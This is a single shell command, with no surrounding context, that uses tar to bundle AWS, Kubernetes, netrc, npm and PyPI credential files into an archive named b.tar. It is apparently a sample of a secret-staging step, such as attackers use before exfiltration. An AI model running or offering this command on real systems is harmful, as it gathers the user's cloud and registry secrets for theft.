tar cf b.tar ~/.aws/credentials ~/.kube/config ~/.netrc ~/.npmrc ~/.pypirc
